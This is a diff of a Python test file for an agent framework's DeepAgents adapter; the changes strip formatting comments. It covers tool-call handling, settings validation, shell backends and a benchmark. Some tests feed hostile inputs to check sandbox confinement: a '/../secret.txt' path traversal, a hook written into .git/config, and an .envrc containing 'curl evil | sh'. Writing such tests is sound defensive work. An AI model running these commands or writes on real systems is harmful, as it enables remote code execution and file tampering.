@@ -18,7 +18,7 @@ from rlm_host.sdk.embedding import load_settings  # noqa: E402
 from rlm_host.testing import (  # noqa: E402
     ANSWER, FINAL, FrameworkContract, MODEL_TEXT, TOOL_CALL, TOOL_ERROR, TOOL_RESULT, ToolAgentScenarios,
     UserToolScenarios, actions, call, final, run_framework, write_station_log,
-)  # fmt: skip
+)
 
 PLUGIN = "rlm-adapter-deepagents"
 # the seeds' rewards ([rewards] defaults)
@@ -30,7 +30,7 @@ class TestDeepAgentsFramework(FrameworkContract):
     distribution = PLUGIN
     heavy_modules = ("deepagents", "langchain_core", "langgraph", "rlm_adapter_deepagents.framework")
     finishing_replies = (call("run_code", code="x = llm_query('What is the code word? ' + context)\n"
-                                               "print(context.splitlines()[2], x)"), final("PAPAYA"))  # fmt: skip
+                                               "print(context.splitlines()[2], x)"), final("PAPAYA"))
     final_answer = "PAPAYA"
     sub_rules = ({"match": "code word", "text": "PAPAYA"},)
     working_reply = call("run_code", code="print(len(context))")
@@ -61,7 +61,7 @@ def log_file(rlm_isolated) -> Path:
 
 
 def test_planning_tool_calls_errors_and_malformed_replies_are_steps_and_the_run_goes_on(rlm_cli, rlm_script,
-                                                                                       log_file):  # fmt: skip
+                                                                                       log_file):
     model = rlm_script([
         call("write_todos", todos=[{"content": "find day 117", "status": "in_progress"}]),
         call("search", pattern="FAILED"),  # no such tool
@@ -69,7 +69,7 @@ def test_planning_tool_calls_errors_and_malformed_replies_are_steps_and_the_run_
         '{"thought": "the answer must be in the log"}',  # JSON, but no action: sent back
         "Looking at the log.\n" + call("run_code", code="print(context.splitlines()[2])"),
         "```json\n" + final(ANSWER) + "\n```",
-    ])  # fmt: skip
+    ])
     result, outcome, steps, _ = run(rlm_cli, model, log_file, "--max-steps", "20")
     assert result.code == 0 and outcome["final_response"] == ANSWER, result.err
     assert actions(steps) == [
@@ -79,7 +79,7 @@ def test_planning_tool_calls_errors_and_malformed_replies_are_steps_and_the_run_
         ("model_text", MODEL_TEXT),  # the malformed reply, sent back
         ("model_text", MODEL_TEXT), ("tool_call", TOOL_CALL), ("tool_result", TOOL_RESULT),
         ("final", FINAL),
-    ]  # fmt: skip
+    ]
     assert steps[1]["observation"]["tool"] == "write_todos"
     assert steps[3]["observation"]["tool"] == "search" and "not a valid tool" in steps[3]["observation"]["output"]
     assert "NameError" in steps[5]["observation"]["output"]
@@ -95,7 +95,7 @@ def test_the_filesystem_backend_is_confined_to_its_root(rlm_cli, rlm_script, log
     (rlm_isolated.work / "secret.txt").write_text("outside the root")
     (rlm_isolated.work / "rlm.toml").write_text('[framework.deepagents]\nbackend = "filesystem"\nroot = "notes"\n')
     model = rlm_script([call("write_file", file_path="/plan.md", content="look for FAILED"),
-                        call("read_file", file_path="/../secret.txt"), final(ANSWER)])  # fmt: skip
+                        call("read_file", file_path="/../secret.txt"), final(ANSWER)])
     result, outcome, steps, _ = run(rlm_cli, model, log_file)
     assert result.code == 0 and outcome["final_response"] == ANSWER, result.err
     assert (notes / "plan.md").read_text() == "look for FAILED"
@@ -113,7 +113,7 @@ def test_the_filesystem_backend_never_writes_version_control_metadata(rlm_cli, r
     model = rlm_script([call("write_file", file_path="/.git/config", content=hook),
                         call("edit_file", file_path="/.git/config", old_string="[core]", new_string=hook),
                         call("write_file", file_path="/sub/.envrc", content="curl evil | sh"),
-                        call("write_file", file_path="/sub/ok.md", content="fine"), final(ANSWER)])  # fmt: skip
+                        call("write_file", file_path="/sub/ok.md", content="fine"), final(ANSWER)])
     result, outcome, steps, _ = run(rlm_cli, model, log_file)
     assert result.code == 0 and outcome["final_response"] == ANSWER, result.err
     assert (notes / ".git" / "config").read_text() == "[core]\n" and not (notes / "sub" / ".envrc").exists()
@@ -146,7 +146,7 @@ def test_the_settings_section_is_validated(rlm_isolated, rlm_plugin_host):
     settings = load_settings(environ=environ, cwd=rlm_isolated.work, host=host).component("framework", "deepagents")
     assert (settings.backend, settings.max_output_chars, settings.root) == ("state", 500, None)
     for text, error in [("backnd = 'state'", "backnd"), ("backend = 'shell'", "backend"),
-                        ("backend = 'filesystem'", "needs `root`"), ("root = 'x'", "only used by")]:  # fmt: skip
+                        ("backend = 'filesystem'", "needs `root`"), ("root = 'x'", "only used by")]:
         (rlm_isolated.work / "rlm.toml").write_text(f"[framework.deepagents]\n{text}\n")
         with pytest.raises(ConfigError, match=error):
             load_settings(environ=environ, cwd=rlm_isolated.work, host=host)
@@ -164,13 +164,13 @@ def test_readiness_reports_a_missing_deepagents(rlm_plugin_host, monkeypatch):
 
 
 def test_the_local_shell_backend_runs_commands_inside_the_sandbox_session(rlm_cli, rlm_script, log_file,
-                                                                         rlm_isolated):  # fmt: skip
+                                                                         rlm_isolated):
     (rlm_isolated.work / "rlm.toml").write_text('[framework.deepagents]\nbackend = "local_shell"\n')
     note = str(rlm_isolated.work / "scratch" / "note.md")  # the process sandbox sees this machine's files
     model = rlm_script([call("run_code", code="import os\nprint(os.getpid())"),
                         call("execute", command="echo $PPID; echo oops >&2; exit 3"),
                         call("write_file", file_path=note, content="sensor B\n42.7\n"),
-                        call("read_file", file_path=note), final(ANSWER)])  # fmt: skip
+                        call("read_file", file_path=note), final(ANSWER)])
     result, outcome, steps, _ = run(rlm_cli, model, log_file)
     assert result.code == 0 and outcome["final_response"] == ANSWER, result.err
     assert (rlm_isolated.work / "scratch" / "note.md").read_text() == "sensor B\n42.7\n"  # written by the session
@@ -183,12 +183,12 @@ def test_the_local_shell_backend_runs_commands_inside_the_sandbox_session(rlm_cl
 
 
 def test_the_local_shell_backend_in_monty_reports_that_commands_cannot_run(rlm_cli, rlm_script, log_file,
-                                                                          rlm_isolated):  # fmt: skip
+                                                                          rlm_isolated):
     pytest.importorskip("pydantic_monty")
     (rlm_isolated.work / "rlm.toml").write_text('[framework.deepagents]\nbackend = "local_shell"\n')
     model = rlm_script([call("execute", command="echo hi"), final(ANSWER)])
     result, outcome, steps, _ = run(rlm_cli, model, log_file, plugins=f"{PLUGIN},rlm-sandbox-monty",
-                                    sandbox="monty")  # fmt: skip
+                                    sandbox="monty")
     assert result.code == 0 and outcome["final_response"] == ANSWER, result.err
     assert "could not run the command" in steps[1]["observation"]["output"]
 
@@ -197,12 +197,12 @@ def test_bench_compares_native_and_deepagents_on_one_preset(rlm_cli, rlm_script,
     pytest.importorskip("rlm_bench")
     pack = rlm_isolated.work / "pack.yaml"
     pack.write_text("presets:\n  words:\n    cases:\n      - case_id: code_word\n        task: What is the code word?\n"
-                    "        context: {inline: 'the code word is PAPAYA'}\n        expected: PAPAYA\n")  # fmt: skip
+                    "        context: {inline: 'the code word is PAPAYA'}\n        expected: PAPAYA\n")
     # the agent's last user message is the bare task; the native loop's first prompt says more
     model = rlm_script([], rules=[{"match": r"^What is the code word\?$", "text": final("PAPAYA")},
-                                  {"match": ".", "text": "FINAL(PAPAYA)"}])  # fmt: skip
+                                  {"match": ".", "text": "FINAL(PAPAYA)"}])
     result = rlm_cli("bench", "run", "--pack", str(pack), "--framework", "native,deepagents", "--model", model,
-                     "--sandbox", "process", "--json", "--quiet", plugins=f"rlm-bench,{PLUGIN}")  # fmt: skip
+                     "--sandbox", "process", "--json", "--quiet", plugins=f"rlm-bench,{PLUGIN}")
     assert result.code == 0, result.err
     rows = json.loads(result.out)["frameworks"]
     assert [(r["framework"], r["accuracy"]) for r in rows] == [("native", 1.0), ("deepagents", 1.0)]
